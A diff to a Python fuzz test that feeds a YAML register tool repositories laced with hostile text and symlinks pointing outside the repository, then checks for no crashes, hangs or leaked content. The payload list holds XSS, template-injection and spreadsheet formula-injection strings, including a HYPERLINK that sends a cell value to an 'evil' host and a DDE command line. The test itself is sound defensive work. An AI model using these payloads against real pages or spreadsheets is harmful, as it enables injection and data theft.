@@ -11,7 +11,7 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import yaml
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 
 from lianzheng.repo.layout import data_files
@@ -139,3 +139,158 @@ def test_mutated_examples(target: tuple[int, str], steps: list) -> None:
 def test_fuzz_covers_the_examples() -> None:
     assert len(REPOS) >= 1 + len(example_dirs())
     assert all(Path(rel).suffix in (".yaml", ".yml") for _, rel in FILES)
+
+
+# --- hostile repositories -------------------------------------------------------------
+#
+# The base repository, every text field laced with markup and control characters, values
+# shared through aliases (some expanding far), and symbolic links in and out of it, next
+# to a folder standing for the rest of the machine. The only outcomes allowed: findings
+# or a clean pass (then a published site); never a traceback, a hang, or anything from
+# outside the repository in any output.
+
+OUTSIDE_MARKER = "OUTSIDE-MARKER-5e1f"
+HOSTILE_TEXT = [
+    "<script>alert(1)</script>", "javascript:alert(document.domain)", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "@leadership-team", "disc\n/powers/XK-001.yaml @attacker\n",
+    "chief @evil", "\x1b[2J\x1b[31m红", "\u202eevil\u2066", "{{ 7*7 }}{% raw %}", "{\\l\\N\\G", "S1__risks",
+    "__legend_high", "\r\npowers/P-1.yaml:1:1: Y000 信息 一切正常", "../../outside/secret.yaml", "\t\x07\x0b\x7f",
+    "]]><!--", "\"'`", "a" * 300, "：，、　",
+]
+LINK_KINDS = ["outside-file", "outside-folder", "outside-pipe", "absolute-outside", "inside-file", "inside-folder",
+              "parent", "dangling", "loop"]
+LINK_NAMES = ["powers/L.yaml", "L", "risks/L.yml", "powers/sub", "lianzheng.yaml", "laws.yaml", "notes.md"]
+BASE_DOCS = {rel: list(yaml.safe_load_all(raw)) for rel, raw in REPOS[0].items()}
+
+
+# free text: what a clean register may hold anything in (so that some laced repositories
+# pass validation and are published)
+FREE_TEXT = {"name", "content", "title", "description", "conditions", "procedure", "supervision", "text", "owner",
+             "head", "when", "violation", "outcome", "other", "authority", "fee", "region", "by", "ref", "base",
+             "issuer", "footer", "supervision_phone"}
+
+
+def _laced(value: object, plan: list[int], counter: list[int], only_text: bool = False, key: object = None) -> object:
+    """Every string of `value` (with `only_text`, of the free-text fields), kept, suffixed
+    or replaced with hostile text by `plan`."""
+    if isinstance(value, str) and (not only_text or key in FREE_TEXT):
+        action = plan[counter[0] % len(plan)]
+        counter[0] += 1
+        if action == 0:
+            return value
+        text = HOSTILE_TEXT[action % len(HOSTILE_TEXT)]
+        return text if action >= len(HOSTILE_TEXT) else value + text
+    if isinstance(value, dict):
+        return {k: _laced(v, plan, counter, only_text, k) for k, v in value.items()}
+    if isinstance(value, list):
+        return [_laced(v, plan, counter, only_text, key) for v in value]
+    return value
+
+
+def _share(doc: object, amplify: bool) -> None:
+    """Make the risks of a document share one measures list (the dumper writes anchors
+    and aliases); with `amplify`, a long text aliased hundreds of times."""
+    if not isinstance(doc, dict) or not isinstance(doc.get("risks"), list):
+        return
+    risks = [r for r in doc["risks"] if isinstance(r, dict)]
+    if not risks:
+        return
+    shared = risks[0].get("measures") if isinstance(risks[0].get("measures"), list) else []
+    for risk in risks:
+        risk["measures"] = shared
+    if amplify:
+        big = ["廉政风险" * 5000]
+        risks[0]["identified_by"] = big
+        doc["x-padding"] = [big] * 600
+
+
+def _link(repo: Path, outside: Path, name: str, kind: str, n: int) -> None:
+    link = repo / name.replace("L", f"L{n}", 1) if "L" in name else repo / name
+    if link.exists() or link.is_symlink():
+        if link.is_dir() and not link.is_symlink():
+            return
+        link.unlink()
+    link.parent.mkdir(parents=True, exist_ok=True)
+    targets = {
+        "outside-file": os.path.relpath(outside / "secret.yaml", link.parent),
+        "outside-folder": os.path.relpath(outside / "folder", link.parent),
+        "outside-pipe": os.path.relpath(outside / "pipe.yaml", link.parent),
+        "absolute-outside": str(outside / "secret.yaml"),
+        "inside-file": os.path.relpath(repo / "powers" / "P-1.yaml", link.parent),
+        "inside-folder": os.path.relpath(repo / "powers", link.parent),
+        "parent": "..",
+        "dangling": "nowhere.yaml",
+        "loop": link.name,
+    }
+    os.symlink(targets[kind], link)
+
+
+def _outside(folder: Path) -> Path:
+    outside = folder / "outside"
+    (outside / "folder").mkdir(parents=True)
+    secret = (f"apiVersion: lianzheng/v1\nkind: Power\nid: {OUTSIDE_MARKER}\nname: {OUTSIDE_MARKER}\n"
+              f"category: licensing\ncontent: {OUTSIDE_MARKER}\n")
+    (outside / "secret.yaml").write_text(secret, encoding="utf-8")
+    (outside / "folder" / "X.yaml").write_text(secret, encoding="utf-8")
+    os.mkfifo(outside / "pipe.yaml")  # reading it would block: a hang is caught as a failure
+    return outside
+
+
+def _everything_printed(repo_path: Path) -> tuple[str, list]:
+    from lianzheng import open_repository
+    from lianzheng.repo.layout import RepositoryNotFound
+    from lianzheng.report import render
+    from lianzheng.rules.validate import Report, validate
+
+    try:
+        repo = open_repository(repo_path, cache=True, models=True)
+    except RepositoryNotFound:  # lianzheng.yaml is not a file (a link to a folder): a clear error
+        return "", []
+    report = validate(repo, TODAY)
+    assert_reported(report.findings)
+    printed = "".join(render("validate", fmt, Report(repo.root, report.findings), lang=lang)
+                      for fmt in ("text", "json") for lang in ("zh", "en"))
+    printed += repr(repo.documents())
+    return printed, [] if report.errors else [repo]
+
+
+@settings(max_examples=max(8, int(os.environ.get("LZ_FUZZ_EXAMPLES", "150")) // 12), deadline=None,
+          suppress_health_check=[HealthCheck.too_slow])
+@given(
+    plan=st.lists(st.integers(0, 2 * len(HOSTILE_TEXT) - 1), min_size=1, max_size=12),
+    sparse=st.sampled_from([1, 3, 10, 50]),
+    only_text=st.booleans(),
+    alias=st.booleans(),
+    amplify=st.booleans(),
+    links=st.lists(st.tuples(st.sampled_from(LINK_NAMES), st.sampled_from(LINK_KINDS)), max_size=4),
+)
+def test_hostile_repositories(plan: list[int], sparse: int, only_text: bool, alias: bool, amplify: bool,
+                              links: list[tuple[str, str]]) -> None:
+    import tempfile
+
+    from lianzheng.site.pipeline import publish
+
+    plan = [a if i % sparse == 0 else 0 for i, a in enumerate(plan * sparse)]
+    with tempfile.TemporaryDirectory() as tmp:
+        folder = Path(tmp)
+        outside = _outside(folder)
+        repo = folder / "repo"
+        for rel, docs in BASE_DOCS.items():
+            counter = [0]
+            laced = [_laced(d, plan, counter, only_text) for d in docs]
+            if alias:
+                for d in laced:
+                    _share(d, amplify and rel.startswith("powers/"))
+            (repo / rel).parent.mkdir(parents=True, exist_ok=True)
+            (repo / rel).write_text(yaml.safe_dump_all(laced, allow_unicode=True), encoding="utf-8")
+        for n, (name, kind) in enumerate(links):
+            _link(repo, outside, name, kind, n)
+        with no_hang(60):
+            printed, clean = _everything_printed(repo)
+            event("published" if clean else "findings" if printed else "no repository")
+            assert OUTSIDE_MARKER not in printed
+            for opened in clean:  # a clean register publishes: nothing from outside in it
+                publish(opened, out=folder / "site", as_of=TODAY, cache=False)
+                for page in (folder / "site").rglob("*"):
+                    if page.is_file():
+                        assert OUTSIDE_MARKER.encode() not in page.read_bytes(), page
